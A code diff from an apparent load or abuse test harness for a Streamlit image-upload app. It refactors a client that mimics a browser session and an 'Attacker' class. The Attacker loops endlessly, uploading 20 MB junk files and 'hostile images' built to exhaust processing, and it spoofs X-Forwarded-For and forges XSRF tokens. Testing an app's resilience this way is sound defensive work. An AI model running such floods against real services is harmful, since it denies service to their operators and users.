@@ -29,6 +29,7 @@ from uuid import uuid4
 import numpy as np
 import psutil
 from streamlit.proto.BackMsg_pb2 import BackMsg
+from streamlit.proto.Common_pb2 import FileURLs, UploadedFileInfo
 from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
 from streamlit.proto.WidgetStates_pb2 import WidgetState
 from streamlit.web.server.starlette.starlette_app_utils import generate_xsrf_token_string
@@ -143,6 +144,10 @@ class Visitor:
         message.rerun_script.page_script_hash = self.pages.get(page, "")
         for label, text in texts.items():
             message.rerun_script.widget_states.widgets.append(WidgetState(id=self.widgets[label], string_value=text))
+        self.send(message)
+
+    def send(self, message: BackMsg) -> None:
+        """Sends what a browser sends, and takes in what comes until the run has ended."""
         self._socket.send(message.SerializeToString())
         while True:
             answer = ForwardMsg.FromString(self._socket.recv(timeout=_WAIT))  # type: ignore[arg-type]
@@ -153,11 +158,20 @@ class Visitor:
                 self.pages = {each.url_pathname: each.page_script_hash for each in answer.navigation.app_pages}
             elif kind == "delta" and answer.delta.WhichOneof("type") == "new_element":
                 name = answer.delta.new_element.WhichOneof("type")
-                if name in ("text_input", "text_area"):
+                if name in ("text_input", "text_area", "file_uploader", "button"):
                     element = getattr(answer.delta.new_element, name)
                     self.widgets[element.label] = element.id
             elif kind == "script_finished" and answer.script_finished != ForwardMsg.FINISHED_EARLY_FOR_RERUN:
                 return
+
+    def upload(self, files: list[Any]) -> None:
+        """On the page Your images: puts files into the field and clicks the button."""
+        message = BackMsg()
+        message.rerun_script.page_script_hash = self.pages["your_images"]
+        field = WidgetState(id=self.widgets["Images, or a ZIP of images"])
+        field.file_uploader_state_value.uploaded_file_info.extend(files)
+        message.rerun_script.widget_states.widgets.extend([field, WidgetState(id=self.widgets["Embed these images"], trigger_value=True)])
+        self.send(message)
 
 
 class Attacker:
@@ -241,94 +255,40 @@ class Attacker:
                 break
         link.close()
 
-    def _put(self, session: str, name: str, content: bytes) -> int:
-        xsrf = generate_xsrf_token_string()
-        body = f"--x\r\nContent-Disposition: form-data; name=f; filename={name}\r\n\r\n".encode() + content + b"\r\n--x--\r\n"
-        headers = {"Content-Type": "multipart/form-data; boundary=x", "X-Xsrftoken": xsrf, "Cookie": f"_streamlit_xsrf={xsrf}"}
-        link = http.client.HTTPConnection(self._host, int(self._port), timeout=30)
-        link.request("PUT", f"/_stcore/upload_file/{session}/{uuid4()}", body, headers | {"X-Forwarded-For": _ATTACKER})
-        status = link.getresponse().status
-        link.close()
-        return status
-
-    def _send_files(self) -> None:
-        page = Visitor(self._url, _ATTACKER, random.randrange(10**6))
-        page.open()
-        try:
-            while not self._over.is_set():
-                self._put(page.session, "a.png", bytes(20_000_000))
-                self._count("files of 20 MB that no page takes")
-        finally:
-            page.close()
-
-    def _send_images(self) -> None:
-        """As the page does it: the files, the field's value, and a click on the button."""
-        from streamlit.proto.Common_pb2 import FileURLs, UploadedFileInfo
-
-        page = UploadPage(self._url, _ATTACKER, random.randrange(10**6))
-        page.open()
-        try:
-            page.run("your_images")
-            while not self._over.is_set():
-                files = [progressive(2000, 2000, 256), sixteen_bit(10_000, 4_000)]
-                sent = []
-                for content in files:
-                    id = str(uuid4())
-                    place = f"/_stcore/upload_file/{page.session}/{id}"
-                    self._put_at(place, content)
-                    urls = FileURLs(file_id=id, upload_url=place, delete_url=place)
-                    sent.append(UploadedFileInfo(name="a.jpg", size=len(content), file_id=id, file_urls=urls))
-                page.upload(sent)
-                self._count("hostile images", len(files))
-        finally:
-            page.close()
-
-    def _put_at(self, place: str, content: bytes) -> None:
-        xsrf = generate_xsrf_token_string()
+    def _put(self, session: str, content: bytes) -> Any:
+        """Sends a file as a page does; what a page then says of it."""
+        id, xsrf = str(uuid4()), generate_xsrf_token_string()
+        place = f"/_stcore/upload_file/{session}/{id}"
         body = b"--x\r\nContent-Disposition: form-data; name=f; filename=a.jpg\r\n\r\n" + content + b"\r\n--x--\r\n"
         headers = {"Content-Type": "multipart/form-data; boundary=x", "X-Xsrftoken": xsrf, "Cookie": f"_streamlit_xsrf={xsrf}"}
         link = http.client.HTTPConnection(self._host, int(self._port), timeout=30)
         link.request("PUT", place, body, headers | {"X-Forwarded-For": _ATTACKER})
         link.getresponse().read()
         link.close()
+        urls = FileURLs(file_id=id, upload_url=place, delete_url=place)
+        return UploadedFileInfo(name="a.jpg", size=len(content), file_id=id, file_urls=urls)
 
+    def _send_files(self) -> None:
+        page = Visitor(self._url, _ATTACKER, random.randrange(10**6))
+        page.open()
+        try:
+            while not self._over.is_set():
+                self._put(page.session, bytes(20_000_000))
+                self._count("files of 20 MB that no page takes")
+        finally:
+            page.close()
 
-class UploadPage(Visitor):
-    """The page Your images, whose field for files and button are used."""
-
-    def upload(self, files: list[Any]) -> None:
-        """Puts files into the field and clicks the button."""
-        message = BackMsg()
-        message.rerun_script.page_script_hash = self.pages.get("your_images", "")
-        field = WidgetState(id=self.widgets["files"])
-        field.file_uploader_state_value.uploaded_file_info.extend(files)
-        message.rerun_script.widget_states.widgets.extend([field, WidgetState(id=self.widgets["begin"], trigger_value=True)])
-        self._socket.send(message.SerializeToString())
-        while True:
-            answer = ForwardMsg.FromString(self._socket.recv(timeout=_WAIT))  # type: ignore[arg-type]
-            if answer.WhichOneof("type") == "script_finished" and answer.script_finished != ForwardMsg.FINISHED_EARLY_FOR_RERUN:
-                return
-
-    def run(self, page: str, **texts: str) -> None:
-        """As `Visitor.run`, which learns the field for files and its button, too."""
-        message = BackMsg()
-        message.rerun_script.page_script_hash = self.pages.get(page, "")
-        self._socket.send(message.SerializeToString())
-        while True:
-            answer = ForwardMsg.FromString(self._socket.recv(timeout=_WAIT))  # type: ignore[arg-type]
-            kind = answer.WhichOneof("type")
-            if kind == "new_session":
-                self.session = answer.new_session.initialize.session_id or self.session
-            elif kind == "navigation":
-                self.pages = {each.url_pathname: each.page_script_hash for each in answer.navigation.app_pages}
-            elif kind == "delta" and answer.delta.WhichOneof("type") == "new_element":
-                element = answer.delta.new_element
-                if element.WhichOneof("type") == "file_uploader":
-                    self.widgets["files"] = element.file_uploader.id
-                elif element.WhichOneof("type") == "button" and "begin_upload" in element.button.id:
-                    self.widgets["begin"] = element.button.id
-            elif kind == "script_finished" and answer.script_finished != ForwardMsg.FINISHED_EARLY_FOR_RERUN:
-                return
+    def _send_images(self) -> None:
+        """As the page does it: the files, the field's value, and a click on the button."""
+        page = Visitor(self._url, _ATTACKER, random.randrange(10**6))
+        page.open()
+        try:
+            page.run("your_images")
+            while not self._over.is_set():
+                page.upload([self._put(page.session, content) for content in self._images])
+                self._count("hostile images", len(self._images))
+        finally:
+            page.close()
 
 
 def progressive(width: int, height: int, scans: int) -> bytes:
